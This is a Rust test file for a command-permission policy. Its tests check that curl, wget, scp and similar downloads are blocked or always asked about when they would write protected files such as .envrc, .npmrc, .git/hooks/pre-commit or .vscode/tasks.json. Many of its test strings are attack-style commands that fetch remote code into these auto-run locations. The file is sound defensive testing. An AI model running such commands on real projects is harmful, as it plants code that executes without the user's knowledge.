//! Files that a program names by the address that it fetches.

use super::*;

/// What a file is called that is protected wherever it lies.
const NAMES: &[&str] = &[".envrc", ".mayi.toml", ".npmrc", "mise.toml"];

/// Programs that write what they fetch to a file that is called as the address ends; `{}` is the address.
const BY_NAME: &[&str] = &[
    "curl -O {}",
    "curl -sSfLO {}",
    "curl -LO --compressed {}",
    "curl --remote-name {}",
    "curl --remote-n {}",
    "curl --remote-name-all {}",
    "curl -O --url {}",
    "curl --url={} -O",
    "curl -o x http://h.example/x -O {}",
    "curl -O --output-dir sub {}",
    "curl -O --output-dir=sub --create-dirs {}",
    "curl -H 'A: b' -O -- {}",
    "curl -O {} -o /dev/null http://h.example/x",
    "timeout 9 curl -O {}",
    "cd sub && curl -O {}",
    "sh -c \"curl -O {}\"",
    "wget {}",
    "wget -q {}",
    "wget -nv -c {}",
    "wget -P sub {}",
    "wget --directory-prefix=sub {}",
    "wget -N -t 3 {}",
    "wget http://h.example/x {}",
    "wget -- {}",
    "wget2 {}",
    "nice wget -qN {}",
    "aria2c {}",
    "aria2c -d sub {}",
    "axel {}",
    "axel -q {}",
    "wcurl {}",
    "fetch {}",
    "http --download {}",
    "xh -d {}",
];

/// Addresses that end with a name, as programs cut and decode them.
const ENDS: &[&str] = &[
    "http://h.example/{}",
    "http://h.example/a/b/{}",
    "https://u:p@h.example:8443/{}",
    "ftp://h.example/{}",
    "HTTP://h.example/{}",
    "h.example/{}",
    "http:/h.example/{}",
    "'http://h.example/{}?x=1'",
    "'http://h.example/a?x=/{}'",
    "'http://h.example/{}#x'",
    "http://h.example/{}/",
    "http://h.example/a/../{}",
    "http://h.example/{}/.",
    "http://h.example/{}/x/..",
    "http://h.example/%2e{1}",
    "http://h.example/a%2F{}",
    "'http://h.example/{}?'",
    "\"http://h.example/$V/{}\"",
    "http://h.example/v$V/{}",
];

fn addresses(name: &str) -> Vec<String> {
    let rest = name.get(1..).unwrap_or_default();
    let dot = name.starts_with('.');
    let fits = ENDS.iter().filter(|end| dot || !end.contains("{1}"));
    fits.map(|end| end.replace("{1}", rest).replace("{}", name)).collect()
}

/// A file that is protected is, also where only the address says what it is called. Attack 223.
#[test]
fn given_an_address_that_ends_with_a_protected_name_then_fetching_it_is_asked_about_always() {
    let scene = Scene::new();
    let policy = scene.denying(&[]);
    let lines: Vec<String> = NAMES
        .iter()
        .flat_map(|name| addresses(name))
        .flat_map(|address| BY_NAME.iter().map(move |line| line.replace("{}", &address)))
        .filter(|line| !line.starts_with("sh -c") || !line.contains("\"http"))
        .collect();
    let count = lines.len();
    held(
        &wrong(&scene, &policy, lines, |decision| decision.effect == Deny || decision.always_asks()),
        count,
        2_000,
    );
}

/// The same of curl's own globs, of what the server says, and of folders that another option names. Attack 223.
#[test]
fn given_a_name_that_globs_or_the_server_give_then_it_is_asked_about_always() {
    let scene = Scene::new();
    let policy = scene.denying(&[]);
    let mut lines: Vec<String> = [
        "curl -O 'http://h.example/{.envrc}'",
        "curl -O 'http://h.example/{x,.envrc}'",
        "curl -O 'http://h.example/.{x,env}rc'",
        "curl -O 'http://h.example/.[e-e]nvrc'",
        "curl -O 'http://h.example/.[a-z]nvrc'",
        "curl -O 'http://h.example/{a/.envrc}'",
        "curl -o '#1' 'http://h.example/{.envrc}'",
        "curl -o '.en#1' 'http://h.example/{vrc}'",
        "curl -o '#2#1' 'http://h.example/{vrc}/{.en}'",
        "curl -o '.[#1]' -o '#1' 'http://h.example/{.npmrc}'",
        "curl --output '#1/settings.json' 'http://h.example/{.vscode}'",
        "curl -o '#1#2#3' 'http://h.example/[a-z][a-z][a-z]'",
        "curl --output-dir .vscode -o tasks.json http://h.example/x",
        "curl --output-dir .git -o config http://h.example/x",
        "curl -O --output-dir .git/hooks http://h.example/pre-commit",
        "curl -O --output-dir \"$D\" http://h.example/.envrc",
        "wget -P .git/hooks http://h.example/pre-commit",
        "wget -P .vscode http://h.example/tasks.json",
        "wget --default-page=.envrc http://h.example/",
        "wget --restrict-file-names=lowercase http://h.example/.ENVRC",
        "wget -x -nH http://h.example/.vscode/tasks.json",
        "wget -x --cut-dirs=1 -nH http://h.example/a/.vscode/tasks.json",
        "wget -x -P . http://h.example/.git/hooks/x",
        "aria2c -d .git -o config http://h.example/x",
        "gh release download v1 -p .envrc",
        "gh release download v1 -D .vscode",
        "scp h.example:.envrc .",
        "scp h.example:a/.envrc sub",
        "rsync h.example:.envrc .",
        "rsync -a h.example:x/.envrc sub/",
        "docker cp c:/x/.envrc .",
        "kubectl cp p:.envrc .",
        "aws s3 cp s3://b/.envrc .",
        "aws s3 cp s3://b/a/.envrc sub/",
        "gsutil cp gs://b/.envrc .",
        "gcloud storage cp gs://b/.envrc .",
        "rclone copy r:.envrc .",
        "sftp h.example:.envrc",
        "sftp h.example:a/.envrc .",
    ]
    .map(str::to_owned)
    .to_vec();
    for named in [
        "curl -OJ {}",
        "curl -sOJL {}",
        "curl -O --remote-header-name {}",
        "curl --remote-header {} -O",
        "wget --content-disposition {}",
        "wget --content-disp {}",
        "wget --trust-server-names {}",
        "wget -r {}",
        "wget -rnH {}",
        "wget -m {}",
        "wget -p {}",
        "wget --recursive -P sub {}",
        "aria2c {}",
        "http --download {}",
        "xh --download {}",
    ] {
        for address in
            ["http://h.example/x", "https://h.example/", "h.example/a/b.zip", "http://h.example/x?a=b", "$U"]
        {
            lines.push(named.replace("{}", address));
        }
    }
    let count = lines.len();
    held(
        &wrong(&scene, &policy, lines, |decision| decision.effect == Deny || decision.always_asks()),
        count,
        100,
    );
}

/// A denied write is one, too. Attack 223.
#[test]
fn given_a_denied_write_then_no_address_that_ends_with_its_name_is_fetched() {
    let scene = Scene::new();
    let (mut found, mut count) = (Vec::new(), 0);
    for (pattern, name) in [
        ("write(**)", "x.zip"),
        ("write(x.zip)", "x.zip"),
        ("write(**/x.zip)", "x.zip"),
        ("write(**/*.zip)", "x.zip"),
        ("write(.)", "x.zip"),
    ] {
        let policy = scene.denying(&[pattern]);
        let below = |line: &str| ["sub", "-P", "-d "].iter().any(|word| line.contains(word));
        let fits =
            BY_NAME.iter().filter(|line| pattern.contains("**") || !below(line) && pattern != "write(.)");
        let lines: Vec<String> = addresses(name)
            .into_iter()
            .flat_map(|address| fits.clone().map(move |line| line.replace("{}", &address)))
            .filter(|line| !line.starts_with("sh -c") || !line.contains("\"http"))
            .collect();
        count += lines.len();
        found.extend(wrong(&scene, &policy, lines, |decision| decision.effect != Allow));
    }
    let policy = scene.denying(&["write(**)"]);
    let open = [
        "curl -OJ https://h.example/x",
        "wget -r https://h.example/",
        "curl -O \"$U\"",
        "wget -i list",
        "wget \"$U\"",
    ];
    found.extend(wrong(&scene, &policy, open.map(str::to_owned), |decision| decision.effect != Allow));
    held(&found, count, 1_500);
}

/// What is fetched under a harmless name, printed, or written where an option says is as quiet as before. Attack 223.
#[test]
fn given_a_harmless_name_then_fetching_is_as_quiet_as_before() {
    let scene = Scene::new();
    let policy = scene.denying(&["write(.env)", "write(src/gen/**)"]);
    let mut lines: Vec<String> = [
        "curl http://h.example/.envrc",
        "curl -s https://h.example/.mayi.toml | head",
        "curl -I http://h.example/.envrc",
        "curl -o out/x http://h.example/.envrc",
        "curl -o - http://h.example/.envrc",
        "curl -O 'https://h.example/x-[1-9].tar.gz'",
        "curl -O 'https://h.example/{a,b,c}.tar.gz'",
        "curl -o 'part-#1' 'https://h.example/[1-400]'",
        "curl -O 'https://h.example/[001-100]'",
        "curl -LO \"https://h.example/v$V/x.tar.gz\"",
        "wget -O out/x http://h.example/.envrc",
        "wget -qO- http://h.example/.envrc",
        "wget --spider http://h.example/.envrc",
        "wget https://h.example/",
        "wget https://h.example",
        "git fetch https://h.example/.envrc",
    ]
    .map(str::to_owned)
    .to_vec();
    let server = |line: &&&str| !["aria2c", "http ", "xh "].iter().any(|of| line.starts_with(of));
    for name in ["x.zip", "y.tar.gz", "envrc", "a.json"] {
        for address in addresses(name) {
            for line in BY_NAME.iter().filter(server) {
                // An address without a scheme may be a path.
                if !address.starts_with("h.example") && !line.starts_with("sh -c") {
                    lines.push(line.replace("{}", &address));
                }
            }
        }
    }
    let count = lines.len();
    held(&wrong(&scene, &policy, lines, |decision| decision.effect == Allow), count, 1_000);
    let open = [
        "gh release download v1 -p '*.tar.gz'",
        "gh release download v1",
        "rsync -a h.example:x/ out/",
        "aws s3 cp s3://b/x .",
        "scp h.example:x .",
        "docker cp c:/x/y .",
        "curl -LO \"https://h.example/x-$V.tar.gz\"",
        "curl -O \"$U\"",
        "wget \"$U\"",
        "wget -i list",
    ];
    let policy = scene.denying(&[]);
    held(&wrong(&scene, &policy, open.map(str::to_owned), |decision| decision.effect == Allow), 10, 10);
}
